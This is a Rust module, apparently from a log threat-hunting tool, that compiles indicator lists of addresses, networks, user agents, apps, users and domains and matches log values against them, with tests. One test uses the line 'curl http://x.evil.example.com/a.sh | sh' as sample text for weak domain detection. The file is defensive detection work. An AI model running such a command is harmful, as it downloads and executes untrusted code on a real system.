//! The compiled form of indicator lists: what a value of a column says about them.
//!
//! Case: whole user agents and parts of them are compared byte for byte, because the case of a product tells clients
//! apart (RFC 9110). Product tokens ignore ASCII case all the same: a client that only shouts its name is a near hit
//! that a hunter wants to see, and a token carries enough of the name not to flag others. Applications, users and
//! domains are compared without regard to ASCII case, as the platforms treat them, except record ids, whose case is
//! part of them.

mod network;
mod text;

use serde::Serialize;

use crate::error::HuntError;
use crate::lists::{Indicator, IndicatorList, Kind, MAX_NOTE_BYTES, Mode};

use text::{DomainSet, TextSet, TextSetBuilder};

pub use network::addresses_in;
pub(crate) use network::{Networks, whole_address};

/// Most lists in one hunt.
pub const MAX_LISTS: usize = 64;
/// Most indicators in one hunt over all its lists.
pub const MAX_HUNTED: usize = 2_000_000;

/// How an indicator was found, weakest first.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum How {
    /// In text that anyone can write, such as a forwarding header or a query; says nothing about the sender.
    Weak,
    /// As a part of the value.
    Contains,
    /// As a whole word of the value.
    Token,
    /// All parts of a composite.
    AllOf,
    /// An address inside a network.
    Cidr,
    /// As the whole value.
    Exact,
}

impl How {
    /// Returns the word that results use.
    #[must_use]
    pub fn name(self) -> &'static str {
        match self {
            Self::Weak => "weak",
            Self::Contains => "contains",
            Self::Token => "token",
            Self::AllOf => "all_of",
            Self::Cidr => "cidr",
            Self::Exact => "exact",
        }
    }
}

/// An indicator found in a value.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Found {
    /// Its number in [`Matcher::targets`].
    pub target: u32,
    /// How it was found.
    pub how: How,
}

/// An indicator as it is hunted: equal ones of several lists are one.
#[derive(Debug, Clone)]
pub struct Target {
    /// The indicator.
    pub indicator: Indicator,
    /// Which lists have it, by their number in the hunt.
    pub lists: Vec<usize>,
}

/// Which lists are hunted.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, utoipa::ToSchema)]
pub struct ListHead {
    /// The list's name.
    pub name: String,
    /// Its version.
    #[schema(required)]
    pub version: Option<String>,
    /// When it was true, as its source writes it.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub as_of: Option<String>,
    /// Who says so.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub source: Option<String>,
    /// How many indicators it has.
    pub indicators: usize,
    /// How many entries no log can show; with any, no verdict can be `clear`.
    pub unusable: usize,
    /// How many entries the source takes back or gives as context.
    pub skipped: usize,
}

/// What a column holds, as far as indicators are concerned.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Role {
    /// The address that the platform saw.
    Address,
    /// The user agent.
    UserAgent,
    /// An application's name or id.
    App,
    /// A user's name or id.
    User,
    /// What was acted on; may be a host or a link.
    Target,
    /// Addresses that the sender claims.
    ClaimedAddress,
    /// Text that the sender wrote.
    FreeText,
}

/// The compiled lists of a hunt.
#[derive(Debug)]
pub struct Matcher {
    heads: Vec<ListHead>,
    targets: Vec<Target>,
    networks: Networks,
    agents: TextSet,
    apps: TextSet,
    users: TextSet,
    domains: DomainSet,
}

impl Matcher {
    /// Compiles lists.
    ///
    /// # Errors
    /// Too many lists, indicators or substring patterns.
    pub fn new(lists: &[IndicatorList]) -> Result<Self, HuntError> {
        let heads = heads(lists);
        let names = || {
            heads
                .iter()
                .map(|head| head.name.as_str())
                .collect::<Vec<_>>()
                .join(", ")
        };
        let too_large = |what, limit| HuntError::ListTooLarge {
            file: names(),
            what,
            limit,
        };
        if lists.len() > MAX_LISTS {
            return Err(too_large("too many lists in one hunt", MAX_LISTS));
        }
        let targets = merge(lists);
        if targets.len() > MAX_HUNTED {
            return Err(too_large("too many indicators in one hunt", MAX_HUNTED));
        }
        let mut networks = Networks::default();
        let mut agents = TextSetBuilder::exact_case();
        let mut apps = TextSetBuilder::any_case();
        let mut users = TextSetBuilder::any_case();
        let mut domains = DomainSet::builder();
        for (number, target) in (0..).zip(&targets) {
            let Indicator { kind, values, mode, .. } = &target.indicator;
            match kind {
                Kind::Ip | Kind::Cidr => networks.add(number, values),
                Kind::UserAgent => agents.add(number, *mode, values),
                Kind::UserAgentAllOf => agents.add_all_of(number, *mode, values),
                Kind::App => apps.add(number, *mode, values),
                Kind::User => users.add(number, *mode, values),
                Kind::Domain => domains.add(number, *mode, values),
            }
        }
        let pattern_bytes =
            agents.pattern_bytes() + apps.pattern_bytes() + users.pattern_bytes() + domains.pattern_bytes();
        if pattern_bytes > text::MAX_PATTERN_BYTES {
            return Err(too_large(
                "too many bytes of token, contains and composite patterns",
                text::MAX_PATTERN_BYTES,
            ));
        }
        Ok(Self {
            networks,
            agents: agents.build()?,
            apps: apps.build()?,
            users: users.build()?,
            domains: domains.build()?,
            heads,
            targets,
        })
    }

    /// Returns the lists.
    #[must_use]
    pub fn heads(&self) -> &[ListHead] {
        &self.heads
    }

    /// Returns the indicators, each once.
    #[must_use]
    pub fn targets(&self) -> &[Target] {
        &self.targets
    }

    /// Returns the kinds that are hunted, each once, in order.
    #[must_use]
    pub fn kinds(&self) -> Vec<Kind> {
        let has = |kind: &Kind| self.targets.iter().any(|target| target.indicator.kind == *kind);
        Kind::ALL.into_iter().filter(has).collect()
    }

    /// Returns whether values of this role can show anything that is hunted.
    #[must_use]
    pub fn concerns(&self, role: Role) -> bool {
        match role {
            Role::Address | Role::ClaimedAddress => !self.networks.is_empty(),
            Role::UserAgent => !self.agents.is_empty(),
            Role::App => !self.apps.is_empty(),
            Role::User => !self.users.is_empty() || !self.domains.is_empty(),
            Role::Target => !self.domains.is_empty(),
            Role::FreeText => !self.networks.is_empty() || !self.domains.is_empty(),
        }
    }

    /// Adds what a value says to `found`; an indicator may be added twice with different strength.
    pub fn find(&self, role: Role, value: &str, found: &mut Vec<Found>) {
        match role {
            Role::Address => {
                if let Some(address) = whole_address(value) {
                    self.networks.find(address, None, found);
                }
            }
            Role::UserAgent => self.agents.find(value, found),
            Role::App => self.apps.find(value, found),
            Role::User => {
                self.users.find(value, found);
                if let Some((_, host)) = value.rsplit_once('@') {
                    self.domains.find(host, found);
                }
            }
            Role::Target => self.domains.find(value, found),
            Role::ClaimedAddress => self.find_weak_addresses(value, found),
            Role::FreeText => {
                self.find_weak_addresses(value, found);
                self.domains.find_weak(value, found);
            }
        }
    }

    fn find_weak_addresses(&self, value: &str, found: &mut Vec<Found>) {
        if self.networks.is_empty() {
            return;
        }
        for address in addresses_in(value) {
            self.networks.find(address, Some(How::Weak), found);
        }
    }
}

fn heads(lists: &[IndicatorList]) -> Vec<ListHead> {
    let head = |list: &IndicatorList| ListHead {
        name: list.name.clone(),
        version: list.version.clone(),
        as_of: list.as_of.clone(),
        source: list.source.clone(),
        indicators: list.indicators.len(),
        unusable: list.unusable.total,
        skipped: list.skipped.total,
    };
    lists.iter().map(head).collect()
}

fn merge(lists: &[IndicatorList]) -> Vec<Target> {
    let mut numbers = std::collections::HashMap::<(Kind, Mode, &[String]), usize>::new();
    let mut targets: Vec<Target> = Vec::new();
    for (list_number, list) in lists.iter().enumerate() {
        for indicator in &list.indicators {
            let key = (indicator.kind, indicator.mode, indicator.values.as_slice());
            let number = *numbers.entry(key).or_insert_with(|| {
                targets.push(Target {
                    indicator: indicator.clone(),
                    lists: Vec::new(),
                });
                targets.len() - 1
            });
            let target = &mut targets[number];
            if !target.lists.is_empty() {
                merge_note(&mut target.indicator.note, indicator.note.as_deref());
            }
            target.lists.push(list_number);
        }
    }
    targets
}

/// Adds what another list says about the same indicator, unless it is said already.
fn merge_note(known: &mut Option<String>, more: Option<&str>) {
    let Some(more) = more else {
        return;
    };
    match known {
        None => *known = Some(more.to_owned()),
        Some(known) if known.contains(more) => {}
        Some(known) if more.contains(known.as_str()) => more.clone_into(known),
        Some(known) if known.len() + more.len() + 2 <= MAX_NOTE_BYTES => {
            known.push_str("; ");
            known.push_str(more);
        }
        Some(_) => {}
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;
    use crate::lists;

    fn matcher(lines: &str) -> Matcher {
        let csv = format!("kind,value,match\n{lines}");
        Matcher::new(&[lists::parse("l.csv", csv.as_bytes()).unwrap()]).unwrap()
    }

    fn hows(matcher: &Matcher, role: Role, value: &str) -> Vec<(String, How)> {
        let mut found = Vec::new();
        matcher.find(role, value, &mut found);
        let name = |one: &Found| (matcher.targets()[one.target as usize].indicator.label(), one.how);
        found.iter().map(name).collect()
    }

    #[test]
    fn addresses_match_in_every_spelling() {
        let matcher = matcher("ip,192.0.2.7,\ncidr,192.0.2.0/24,\ncidr,2001:db8::/32,\n");
        let both = [
            ("192.0.2.7".to_owned(), How::Exact),
            ("192.0.2.0/24".to_owned(), How::Cidr),
        ];
        for text in [
            "192.0.2.7",
            " 192.0.2.7 ",
            "::ffff:192.0.2.7",
            "::FFFF:C000:0207",
            "192.0.2.7:443",
            "[::ffff:192.0.2.7]:443",
        ] {
            assert_eq!(hows(&matcher, Role::Address, text), both, "{text}");
        }
        assert_eq!(hows(&matcher, Role::Address, "2001:db8:ffff::9").len(), 1);
        for text in ["Salesforce.com IP", "192.0.2.777", "192.0.3.7", "", "2001:db9::"] {
            assert!(hows(&matcher, Role::Address, text).is_empty(), "{text}");
        }
        let weak = hows(&matcher, Role::ClaimedAddress, "203.0.113.9, 192.0.2.7");
        assert!(weak.len() == 2 && weak.iter().all(|(_, how)| *how == How::Weak));
        assert_eq!(
            hows(&matcher, Role::FreeText, "SELECT Id WHERE Ip='192.0.2.7'").len(),
            2
        );
    }

    #[test]
    fn user_agents_match_whole_by_token_by_part_and_in_parts() {
        let matcher =
            matcher("user_agent,Safari/537.36,exact\nuser_agent,Fetcher/1.0,token\nuser_agent,aiohttp,contains\n");
        let find = |text| hows(&matcher, Role::UserAgent, text);
        assert!(find("Mozilla/5.0 (X11) Safari/537.36").is_empty());
        assert_eq!(find("Safari/537.36")[0].1, How::Exact);
        assert!(find("safari/537.36").is_empty());
        for text in [
            "Fetcher/1.0",
            "x Fetcher/1.0",
            "x (Fetcher/1.0; y)",
            "a,Fetcher/1.0;b",
            "FETCHER/1.0",
        ] {
            assert_eq!(find(text), [("Fetcher/1.0".to_owned(), How::Token)], "{text}");
        }
        for text in ["Fetcher/1.01", "MyFetcher/1.0", "Fetcher/1.0.1", "x/Fetcher/1.0"] {
            assert!(find(text).is_empty(), "{text}");
        }
        assert_eq!(find("Python/3.11 aiohttp/3.12")[0].1, How::Contains);
        assert!(find("Python/3.11 AIOHTTP/3.12").is_empty());
    }

    #[test]
    fn tokens_may_hold_spaces_and_overlap() {
        let matcher = matcher("user_agent,\"a/1 (b, c)\",token\nuser_agent,a/1,token\nuser_agent,(b,token\n");
        assert_eq!(hows(&matcher, Role::UserAgent, "x a/1 (b, c) y").len(), 3);
        assert_eq!(hows(&matcher, Role::UserAgent, "x a/1 (b, d)").len(), 2);
    }

    #[test]
    fn a_composite_needs_all_its_parts() {
        let yaml = "indicators:\n  - {kind: user_agent_all_of, values: [X11, Headless/1, Safari/5]}\n  - {kind: user_agent_all_of, match: token, values: [a/1, b/1]}\n";
        let matcher = Matcher::new(&[lists::parse("l.yaml", yaml.as_bytes()).unwrap()]).unwrap();
        let find = |text| hows(&matcher, Role::UserAgent, text);
        assert_eq!(find("Mozilla (X11) Headless/1.0 Safari/537")[0].1, How::AllOf);
        assert!(find("Mozilla (X11) Chrome/1.0 Safari/537").is_empty());
        assert_eq!(find("b/1 a/1").len(), 1);
        assert!(find("b/1 a/12").is_empty());
    }

    #[test]
    fn users_and_apps_ignore_case_but_ids_keep_it() {
        let matcher =
            matcher("user,Mallory@Example.com,\nuser,0055g00000AbCdE,\napp,Data Loader,\napp,loader,contains\n");
        assert_eq!(hows(&matcher, Role::User, "mallory@example.COM").len(), 1);
        assert_eq!(hows(&matcher, Role::User, "0055g00000AbCdEEAV").len(), 1);
        assert!(hows(&matcher, Role::User, "0055g00000abcde").is_empty());
        assert_eq!(hows(&matcher, Role::App, "data loader").len(), 2);
        assert_eq!(hows(&matcher, Role::App, "Dataloader Bulk").len(), 1);
    }

    #[test]
    fn domains_mean_the_names_below_them() {
        let matcher = matcher("domain,evil.example.com,\ndomain,host.example.net,exact\n");
        let find = |role, text| hows(&matcher, role, text).len();
        assert_eq!(find(Role::Target, "https://a.EVIL.example.com:8443/x"), 1);
        assert_eq!(find(Role::Target, "evil.example.com"), 1);
        assert_eq!(find(Role::Target, "notevil.example.com"), 0);
        assert_eq!(find(Role::Target, "a.host.example.net"), 0);
        assert_eq!(find(Role::User, "mallory@evil.example.com"), 1);
        let weak = hows(&matcher, Role::FreeText, "curl http://x.evil.example.com/a.sh | sh");
        assert_eq!(weak, [("evil.example.com".to_owned(), How::Weak)]);
    }

    #[test]
    fn equal_indicators_of_two_lists_are_one_target_of_both() {
        let first = lists::parse("a.txt", b"192.0.2.1\n192.0.2.2\n").unwrap();
        let second = lists::parse("b.txt", b"192.0.2.2\n").unwrap();
        let matcher = Matcher::new(&[first, second]).unwrap();
        assert_eq!(matcher.targets().len(), 2);
        assert_eq!(matcher.targets()[1].lists, [0, 1]);
    }

    #[test]
    fn notes_of_all_lists_are_kept_once() {
        let list = |note: &str| {
            let csv = format!("kind,value,note\nip,192.0.2.1,{note}\n");
            lists::parse("l.csv", csv.as_bytes()).unwrap()
        };
        let note = |notes: &[&str]| {
            let lists: Vec<IndicatorList> = notes.iter().map(|note| list(note)).collect();
            Matcher::new(&lists).unwrap().targets()[0].indicator.note.clone()
        };
        assert_eq!(note(&["", "tor"]).as_deref(), Some("tor"));
        assert_eq!(
            note(&["tor", "added; tor", "tor", "vpn"]).as_deref(),
            Some("added; tor; vpn")
        );
    }

    proptest::proptest! {
        #[test]
        fn networks_agree_with_a_linear_search(
            networks in proptest::collection::vec((proptest::prelude::any::<u32>(), 0u8..=32), 1..20),
            addresses in proptest::collection::vec(proptest::prelude::any::<u32>(), 1..20),
            picks in proptest::collection::vec(0usize..20, 5),
        ) {
            let networks: Vec<ipnet::Ipv4Net> = networks
                .into_iter()
                .map(|(bits, prefix)| ipnet::Ipv4Net::new(bits.into(), prefix).unwrap().trunc())
                .collect();
            let lines: String = networks.iter().map(|network| format!("cidr,{network},\n")).collect();
            let matcher = matcher(&lines);
            // Addresses at the edges of networks, beside random ones.
            let edges = picks.iter().filter_map(|&pick| networks.get(pick)).flat_map(|network| [network.network(), network.broadcast()]);
            for address in addresses.into_iter().map(std::net::Ipv4Addr::from).chain(edges) {
                let mut found = hows(&matcher, Role::Address, &address.to_string());
                found.sort();
                let mut expected: Vec<(String, How)> = networks
                    .iter()
                    .filter(|network| network.contains(&address))
                    .map(|network| (network.to_string(), How::Cidr))
                    .collect();
                expected.sort();
                expected.dedup();
                proptest::prop_assert_eq!(found, expected);
            }
        }

        #[test]
        fn no_value_panics(value in "\\PC{0,60}") {
            let matcher = matcher("ip,192.0.2.7,\ndomain,a.example.com,\nuser_agent,é/1,token\nuser,x,contains\n");
            for role in [Role::Address, Role::UserAgent, Role::App, Role::User, Role::Target, Role::ClaimedAddress, Role::FreeText] {
                hows(&matcher, role, &value);
            }
        }
    }
}
